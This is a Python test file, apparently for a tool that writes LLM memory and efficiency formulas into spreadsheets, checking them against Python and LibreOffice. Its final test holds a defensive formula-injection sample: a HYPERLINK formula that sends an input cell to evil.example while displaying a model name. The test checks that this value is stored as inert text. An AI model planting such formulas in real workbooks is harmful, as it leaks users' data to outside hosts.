        args[i] = rng.choice([-1, 65, 0] if i == 1 else [-1, 65])
    for r, values in ((1, args), (2, _numeric(args))):
        for j in range(4):
            book.set_value("Case", r, 2 + j, values[j] if j < len(values) else None)
    refs = [f"{get_column_letter(2 + j)}1" for j in range(len(args))]
    rows: dict[str, int] = {}

    def place(key: str) -> str:
        return f"A{rows.setdefault(key, 10 + len(rows))}"

    items = native.catalog_line_items(tables, "MODEL_WEIGHTS_GB", place, *refs)
    assert items[-1][0] == "result" and all("#" not in label for _, label, _ in items)
    for key, _, text in items:
        book.set_formula("Case", int(place(key)[1:]), 1, "=" + text)
    book.set_formula("Case", 3, 1, "=" + tables.lookup("MODEL_WEIGHTS_GB", *refs))
    book.set_formula("Case", 4, 1, "=" + native.check("MODEL_WEIGHTS_GB", *[r.replace("1", "2") for r in refs]))
    book.evaluate_all()
    got, inlined = book.get_value("Case", int(place("result")[1:]), 1), book.get_value("Case", 3, 1)
    ok = book.get_value("Case", 4, 1)
    want = python_value("MODEL_WEIGHTS_GB", args)
    if refused:
        assert want is None and ok is False, (args, want, ok)
    else:
        assert want is not None and ok is True, (args, ok)
        assert agrees(got, want, False) and agrees(inlined, want, False), (args, got, inlined, want)


def test_model_weights_gb_of_the_docstring_and_an_unknown_model():
    """The figures of MODEL_WEIGHTS_GB's Notes (Llama-3-8B AWQ 5.73 GB and FP8 9.08 GB; gpt-oss-120b with MXFP4
    experts 65.1 GB), and #N/A for a model not in the catalog, as the add-in gives."""
    book, tables = _weights_book()
    cases = [
        (["Llama-3-8B", "awq"], 5.73),
        (["Llama-3-8B", "fp8"], 9.08),
        (["gpt-oss-120b", "bf16", 0, "mxfp4"], 65.1),
        (["no-such-model"], None),
    ]
    for i, (args, _) in enumerate(cases, 1):
        for j, v in enumerate(args):
            book.set_value("Case", 100 + i, 2 + j, v)
        refs = [f"{get_column_letter(2 + j)}{100 + i}" for j in range(len(args))]
        book.set_formula("Case", 100 + i, 1, "=" + tables.lookup("MODEL_WEIGHTS_GB", *refs))
    book.evaluate_all()
    for i, (args, figure) in enumerate(cases, 1):
        got = book.get_value("Case", 100 + i, 1)
        if figure is None:
            assert _error_code(got) == _python_error("MODEL_WEIGHTS_GB", args) == "#N/A", got
        else:
            assert round(got, len(str(figure).split(".")[1])) == figure and agrees(
                got, python_value("MODEL_WEIGHTS_GB", args), False
            ), args


def _write_weights_cases(path: Path) -> tuple[list[tuple[list[Any], Any]], list[tuple[str, list[Any]]]]:
    """The workbook of test_libreoffice_computes_model_weights_gb_and_the_missing_figures_as_python_does, saved at
    ``path``: its MODEL_WEIGHTS_GB rows (arguments, Python's value) and the missing figures looked up from row 201."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Catalog"
    tables = native.write_catalog(ws)
    sheet = wb.create_sheet("Cases")
    rng = random.Random(20261202)
    rows: list[tuple[list[Any], Any]] = []
    for r in range(1, 151):
        args = _weights_case(rng)
        for j, v in enumerate(args):
            sheet.cell(row=r, column=5 + j, value=v)
        refs = [f"{get_column_letter(5 + j)}{r}" for j in range(len(args))]
        steps: dict[str, int] = {}

        def place(key: str, r: int = r, steps: dict[str, int] = steps) -> str:
            return f"{get_column_letter(steps.setdefault(key, 20 + len(steps)))}{r}"

        for key, _, text in native.catalog_line_items(tables, "MODEL_WEIGHTS_GB", place, *refs):
            sheet[place(key)] = "=" + text
        sheet.cell(row=r, column=3, value="=" + place("result"))
        rows.append((args, python_value("MODEL_WEIGHTS_GB", args)))
    missing = rng.sample(_missing_figures(), 100)
    for i, (name, args) in enumerate(missing, 1):
        r = 200 + i
        for j, v in enumerate(args):
            sheet.cell(row=r, column=5 + j, value=v)
        sheet.cell(row=r, column=3, value="=" + tables.lookup(name, f"E{r}", f"F{r}"))
    wb.save(path)
    return rows, missing


@pytest.fixture(scope="module")
def libreoffice(tmp_path_factory):
    """Both workbooks LibreOffice recalculates here, converted in one call (one start, one profile): the folder of
    the converted files, the native forms' rows and number of lookups, the weights' rows and missing figures."""
    folder = tmp_path_factory.mktemp("libreoffice")
    native_cases = _write_native_cases(folder / "native.xlsx")
    weights_cases = _write_weights_cases(folder / "weights.xlsx")
    return convert([folder / "native.xlsx", folder / "weights.xlsx"], folder), native_cases, weights_cases


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_computes_model_weights_gb_and_the_missing_figures_as_python_does(libreoffice):
    """One workbook (converted with the native forms one): MODEL_WEIGHTS_GB's line items over random presets and
    precisions equal Python within 1e-9 relative in LibreOffice, and a figure a preset lacks looks up as #N/A there."""
    outdir, _, (rows, missing) = libreoffice
    got = openpyxl.load_workbook(outdir / "weights.xlsx", data_only=True)["Cases"]
    wrong = [
        (r, args, got.cell(row=r, column=3).value, want)
        for r, (args, want) in enumerate(rows, 1)
        if want is None or not agrees(got.cell(row=r, column=3).value, want, False)
    ]
    wrong += [
        (name, args, got.cell(row=200 + i, column=3).value)
        for i, (name, args) in enumerate(missing, 1)
        if got.cell(row=200 + i, column=3).value != _python_error(name, args)
    ]
    assert wrong == []


@pytest.mark.slow
def test_efficiency_as_line_items_equals_the_inlined_lookup_and_python(catalog_book):
    """EFFICIENCY's steps (the template's Workings rows, each table read once) give what the one formula gives,
    and Python's value, or an error where Python refuses, over every kind, accelerator, class, format and quantile of
    the lookup cases."""
    book, tables = catalog_book
    every = [args for name, args in _lookup_cases() if name == "EFFICIENCY"]
    # every eighth case, so each kind, accelerator, format and quantile still comes up: all 4,957 at once made the
    # engine hold 2.9 GB for the tables the steps read
    seen: set[tuple[int, Any]] = set()
    cases = []
    for i, args in enumerate(every):
        new = {(k, v) for k, v in enumerate(args[:3])} - seen  # the first case of each kind, accelerator, format
        if i % 8 == 0 or new:
            cases.append(args)
            seen |= {(k, v) for k, v in enumerate(args[:3])}
    for i, args in enumerate(cases):
        r = 2000 + i
        for j, v in enumerate(args):
            book.set_value("Case", r, 2 + j, v)
        refs = [f"{get_column_letter(2 + j)}{r}" for j in range(len(args))]
        columns: dict[str, int] = {}

        def place(key: str, r: int = r, columns: dict[str, int] = columns) -> str:
            return f"{get_column_letter(columns.setdefault(key, 10 + len(columns)))}{r}"

        items = native.catalog_line_items(tables, "EFFICIENCY", place, *refs)
        assert items[-1][0] == "result" and all(len(text) < 1500 and "#" not in label for _, label, text in items)
        for key, _, text in items:
            place(key)
            book.set_formula("Case", r, columns[key], "=" + text)
        book.set_formula("Case", r, 8, f"={place('result')}")
        book.set_formula("Case", r, 1, "=" + tables.lookup("EFFICIENCY", *refs))
    book.evaluate_all()
    wrong = []
    for i, args in enumerate(cases):
        got, inlined = book.get_value("Case", 2000 + i, 8), book.get_value("Case", 2000 + i, 1)
        want = _python_error("EFFICIENCY", args)
        if want is not None:
            # an error, the one formula's (#N/A; the add-in gives #VALUE! for train_mfu of a class)
            if _error_code(got) is None or _error_code(got) != _error_code(inlined):
                wrong.append((args, got, inlined, want))
        elif not (agrees(got, python_value("EFFICIENCY", args), False) and got == inlined):
            wrong.append((args, got, inlined, python_value("EFFICIENCY", args)))
    assert len(cases) > 500 and wrong == []


def test_catalog_text_is_written_as_text_never_as_a_formula(monkeypatch, tmp_path):
    # a user preset's citation that a spreadsheet would read as a formula (the red team's HYPERLINK sending an input
    # to another site, shown as a harmless name) lands on the portable edition's Catalog sheet as inert text
    import openpyxl

    from xlsxplan.catalog import refresh

    evil = '=HYPERLINK("http://evil.example/?"&Inputs!B5,"Qwen2.5-72B")'
    folder = tmp_path / "catalog"
    folder.mkdir()
    (folder / "models.toml").write_text(
        "[sources]\n"
        f"'user:evil' = '{evil}'\n\n"
        "[models.My-Model]\n"
        'source = "user:evil"\n'
        "params_b = 7.6\nlayers = 28\nhidden = 3584\nheads = 28\nkv_heads = 4\nhead_dim = 128\n"
        "vocab = 152064\ncontext = 32768\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("XLSXPLAN_CATALOG_DIR", str(folder))
    refresh()
    assert "My-Model" in catalog.model_names(), catalog.catalog_problems()
    ws = openpyxl.Workbook().active
    native.write_catalog(ws)
    hits = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)
    assert all(c.value.startswith(evil) for c in hits)
